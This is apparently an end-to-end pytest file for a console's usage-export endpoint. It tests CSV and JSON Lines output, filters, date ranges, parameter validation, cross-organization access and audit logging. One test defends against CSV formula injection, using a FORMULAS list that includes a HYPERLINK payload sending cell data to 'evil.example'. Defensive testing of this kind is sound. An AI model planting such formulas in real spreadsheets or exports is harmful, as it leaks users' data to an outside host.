"""The console's usage export: every record of a range as a download (CSV with a header row
or JSON Lines) in the CONTRACT's field order, streamed page by page; filters, the range,
hostile parameters, other organizations, the audit entry, and spreadsheet formulas sent
as model ids through a real gateway."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import httpx
import pytest

from dynoyard.adapters.dynamo.usage import usage_item
from dynoyard.domain.usage import EXPORT_FIELDS, UsageRecord
from tests.conftest import GatewayProcess, Tables
from tests.e2e.test_console_auth import Console, serve_console
from tests.e2e.test_console_keys import Person, error_code, person, store_call

# The CONTRACT's usage record, in its order.
CONTRACT_FIELDS = [
    "request_id",
    "timestamp",
    "org_id",
    "key_id",
    "model",
    "provider",
    "status",
    "prompt_tokens",
    "completion_tokens",
    "total_tokens",
    "cost_usd",
    "latency_ms",
    "cached",
    "stream",
]
DAY = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
KEY_A, KEY_B = "key_00000000000000aa", "key_00000000000000bb"


@pytest.fixture(scope="module")
def console(tables: Tables) -> Iterator[Console]:
    yield from serve_console(tables)


@pytest.fixture(scope="module")
def owner(console: Console, tables: Tables) -> Person:
    """An organization with seven records over three days (module-wide, read only)."""
    someone = person(console)
    write(tables, records_for(someone.org_id, 7, DAY, timedelta(hours=9)))
    return someone


def records_for(org_id: str, count: int, first: datetime, step: timedelta) -> list[UsageRecord]:
    return [
        UsageRecord(
            request_id=f"req_{n:024x}",
            started_at=first + step * n,
            org_id=org_id,
            key_id=KEY_A if n % 2 else KEY_B,
            endpoint="chat/completions",
            model="m1" if n % 7 < 5 else "m2",
            provider="fake",
            status=200 if n % 7 != 3 else 502,
            prompt_tokens=10 * n,
            completion_tokens=n,
            cost_usd=Decimal("0.000123") * n,
            latency_ms=n,
            cached=n % 7 == 6,
            stream=n % 3 == 0,
        )
        for n in range(count)
    ]


def write(tables: Tables, records: list[UsageRecord]) -> None:
    """The records as the gateway's settle writes them (usage_item), 25 per batch."""
    for start in range(0, len(records), 25):
        batch = [{"PutRequest": {"Item": usage_item(r)}} for r in records[start : start + 25]]
        tables.client.batch_write_item(RequestItems={tables.usage: batch})


def export(who: Person, org_id: str | None = None, **params: Any) -> httpx.Response:
    return who.call("GET", f"/api/orgs/{org_id or who.org_id}/usage/export", params=params)


def csv_rows(answer: httpx.Response) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(answer.text))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def json_rows(answer: httpx.Response) -> list[dict[str, Any]]:
    assert answer.text.endswith("\n")
    return [json.loads(line) for line in answer.text.splitlines()]


WHOLE_RANGE = {"since": DAY.isoformat(), "until": (DAY + timedelta(days=4)).isoformat()}


def test_csv_holds_every_record_of_the_range_in_the_contract_order(
    owner: Person, tables: Tables
) -> None:
    records = records_for(owner.org_id, 7, DAY, timedelta(hours=9))
    answer = export(owner, format="csv", **WHOLE_RANGE)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == (
        f'attachment; filename="usage-{owner.org_id}-2026-11-20T100000Z-2026-11-24T100000Z.csv"'
    )
    assert answer.headers["cache-control"] == "no-store"
    header, rows = csv_rows(answer)
    assert header[: len(CONTRACT_FIELDS)] == CONTRACT_FIELDS and header == list(EXPORT_FIELDS)
    assert [r["request_id"] for r in rows] == [r.request_id for r in records]
    assert rows == [{k: str(v) for k, v in r.export().items()} | _csv_nones(r) for r in records]
    assert sum(Decimal(r["cost_usd"]) for r in rows) == sum(r.cost_usd for r in records)
    assert sum(int(r["total_tokens"]) for r in rows) == sum(r.total_tokens for r in records)
    assert rows[2]["cost_usd"] == "0.000246" and rows[0]["timestamp"] == DAY.isoformat(
        timespec="milliseconds"
    )


def _csv_nones(record: UsageRecord) -> dict[str, str]:
    """csv writes None as an empty cell."""
    return {k: "" for k, v in record.export().items() if v is None}


def test_json_is_json_lines_with_the_same_records_and_types(owner: Person) -> None:
    records = records_for(owner.org_id, 7, DAY, timedelta(hours=9))
    answer = export(owner, format="json", **WHOLE_RANGE)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "application/x-ndjson"
    assert answer.headers["content-disposition"].endswith('.jsonl"')
    rows = json_rows(answer)
    assert rows == [r.export() for r in records]
    assert list(rows[0]) == list(EXPORT_FIELDS)  # the same order as the CSV
    assert rows[3]["status"] == 502 and rows[6]["cached"] is True and rows[0]["stream"] is True
    assert sum(Decimal(r["cost_usd"]) for r in rows) == sum(r.cost_usd for r in records)
    # `jsonl`, the CLI's name for it, is the same export.
    assert export(owner, format="jsonl", **WHOLE_RANGE).text == answer.text


def test_filters_and_the_range_choose_the_records(owner: Person) -> None:
    by_key = json_rows(export(owner, format="json", key_id=KEY_A, **WHOLE_RANGE))
    assert [r["request_id"][-1] for r in by_key] == ["1", "3", "5"]
    by_model = json_rows(export(owner, format="json", model="m2", **WHOLE_RANGE))
    assert [r["request_id"][-1] for r in by_model] == ["5", "6"]
    both = json_rows(export(owner, format="json", model="m2", key_id=KEY_B, **WHOLE_RANGE))
    assert [r["request_id"][-1] for r in both] == ["6"]
    # [since, until): a record at `since` is in, one at `until` is out.
    narrow = export(
        owner,
        format="json",
        since=(DAY + timedelta(hours=9)).isoformat(),
        until=(DAY + timedelta(hours=27)).isoformat(),
    )
    assert [r["request_id"][-1] for r in json_rows(narrow)] == ["1", "2"]
    # A range of days names its file by date; a naive time is UTC.
    days = export(owner, since="2026-11-21", until="2026-11-22T00:00:00")
    assert f'usage-{owner.org_id}-2026-11-21-2026-11-22.csv"' in days.headers["content-disposition"]
    assert [r["request_id"][-1] for r in csv_rows(days)[1]] == ["2", "3", "4"]
    # Nothing in the range: the header alone.
    empty = export(owner, since="2025-01-01", until="2025-01-02")
    assert empty.status_code == 200 and empty.text == ",".join(EXPORT_FIELDS) + "\n"
    assert export(owner, format="json", since="2025-01-01", until="2025-01-02").text == ""


@pytest.mark.parametrize(
    ("params", "param"),
    [
        ({"format": "xml"}, "format"),
        ({"format": "CSV"}, "format"),
        ({"format": ""}, "format"),
        ({"since": "yesterday"}, "since"),
        ({"until": "2026-13-01"}, "until"),
        ({"since": "2026-11-22", "until": "2026-11-21"}, "since"),
        ({"since": "2026-11-22", "until": "2026-11-22"}, "since"),
        ({"since": "0001-01-01T00:00:00+01:00"}, "since"),  # before year 1 in UTC
        ({"until": "9999-12-31T23:59:59-01:00"}, "until"),  # after 9999 in UTC
        ({"key_id": "key_a"}, "key_id"),
        ({"key_id": "KEY#x"}, "key_id"),
        ({"model": ""}, "model"),
        ({"model": "m" * 201}, "model"),
        ({"model": "m1\nm2"}, "model"),
    ],
)
def test_hostile_parameters_are_400_naming_them(
    owner: Person, params: dict[str, str], param: str
) -> None:
    answer = export(owner, **params)
    assert answer.status_code == 400, (params, answer.text)
    assert answer.json()["error"]["param"] == param
    assert answer.json()["error"]["type"] == "invalid_request_error"


def test_the_records_page_rejects_dates_out_of_range_too(owner: Person) -> None:
    path = f"/api/orgs/{owner.org_id}/usage"
    answer = owner.call("GET", path, params={"since": "0001-01-01T00:00:00+01:00"})
    assert answer.status_code == 400 and answer.json()["error"]["param"] == "since"


def test_members_export_other_organizations_are_404_and_no_session_is_401(
    console: Console, tables: Tables, owner: Person
) -> None:
    member, stranger = person(console), person(console)
    store_call(tables, "add_member", owner.org_id, member.user_id, "member")
    answer = export(member, owner.org_id, format="json", **WHOLE_RANGE)
    assert answer.status_code == 200 and len(json_rows(answer)) == 7
    answer = export(stranger, owner.org_id, **WHOLE_RANGE)
    assert answer.status_code == 404 and error_code(answer) == "org_not_found"
    assert export(stranger, **WHOLE_RANGE).text == ",".join(EXPORT_FIELDS) + "\n"  # own: empty
    for org_id in ("org_0000000000000000", "org_..", "ORG%23x"):
        assert export(stranger, org_id).status_code == 404
    path = f"/api/orgs/{owner.org_id}/usage/export"
    answer = console.request("GET", path)
    assert answer.status_code == 401 and error_code(answer) == "not_signed_in"
    answer = console.request("GET", path, session="not-a-session")
    assert answer.status_code == 401

    # Each export is in the organization's audit log: who, which format, range, filters.
    export(member, owner.org_id, format="csv", key_id=KEY_A, model="m1", **WHOLE_RANGE)
    entries = owner.call("GET", f"/api/orgs/{owner.org_id}/audit").json()["entries"]
    latest = entries[0]
    assert (latest["action"], latest["actor"], latest["target"]) == (
        "export",
        member.user_id,
        owner.org_id,
    )
    assert latest["details"] == {
        "what": "usage",
        "format": "csv",
        "since": "2026-11-20T10:00:00+00:00",
        "until": "2026-11-24T10:00:00+00:00",
        "key_id": KEY_A,
        "model": "m1",
    }
    assert latest["ip"] == "127.0.0.1"
    refused = [e for e in entries if e["actor"] == stranger.user_id]
    assert refused == []  # a refused export is not one


def test_twelve_hundred_records_over_two_pages_are_all_exported(
    console: Console, tables: Tables
) -> None:
    big = person(console)
    records = records_for(big.org_id, 1200, DAY, timedelta(minutes=3))
    write(tables, records)
    answer = export(big, **WHOLE_RANGE)
    assert answer.status_code == 200
    # Streamed, not built whole first: no length known in advance.
    assert answer.headers.get("transfer-encoding") == "chunked"
    assert "content-length" not in answer.headers
    _, rows = csv_rows(answer)
    assert [r["request_id"] for r in rows] == [r.request_id for r in records]
    assert sum(Decimal(r["cost_usd"]) for r in rows) == sum(r.cost_usd for r in records)
    assert sum(int(r["prompt_tokens"]) for r in rows) == sum(r.prompt_tokens for r in records)
    lines = json_rows(export(big, format="json", **WHOLE_RANGE))
    assert len(lines) == 1200 and len({r["request_id"] for r in lines}) == 1200
    # A filter that keeps few records still reads every page.
    errors = json_rows(export(big, format="json", model="m2", **WHOLE_RANGE))
    assert len(errors) == sum(1 for r in records if r.model == "m2") == 342


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\tcmd",
]


def test_model_ids_sent_as_formulas_stay_text_in_csv_and_as_sent_in_json(
    console: Console, tables: Tables, gateway: GatewayProcess
) -> None:
    someone = person(console)
    tables.store.grant_credits(someone.org_id, Decimal("1"), "test credits")
    created = someone.create(name="ci").json()
    auth = {"authorization": f"Bearer {created['api_key']}"}
    chat = {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 5}
    ok = httpx.post(
        gateway.base_url + "/v1/chat/completions", headers=auth, json=chat | {"model": "test-chat"}
    )
    assert ok.status_code == 200, ok.text
    for model in FORMULAS:  # unknown models: refused, and recorded as sent
        answer = httpx.post(
            gateway.base_url + "/v1/chat/completions", headers=auth, json=chat | {"model": model}
        )
        assert answer.status_code == 404
    tables.usage_item(answer.headers["x-request-id"])  # the last record is written

    _, rows = csv_rows(export(someone))
    assert [r["model"] for r in rows] == ["test-chat"] + ["'" + m for m in FORMULAS]
    assert all(r["key_id"] == created["key_id"] for r in rows)
    assert not any(cell[:1] in "=+-@\t\r" for r in rows for cell in r.values() if cell)
    charged = Decimal(tables.usage_item(ok.headers["x-request-id"])["cost_usd"]["N"])
    assert charged > 0 and sum(Decimal(r["cost_usd"]) for r in rows) == charged
    lines = json_rows(export(someone, format="json"))
    assert [r["model"] for r in lines] == ["test-chat", *FORMULAS]
    assert [r["status"] for r in lines] == [200] + [404] * len(FORMULAS)
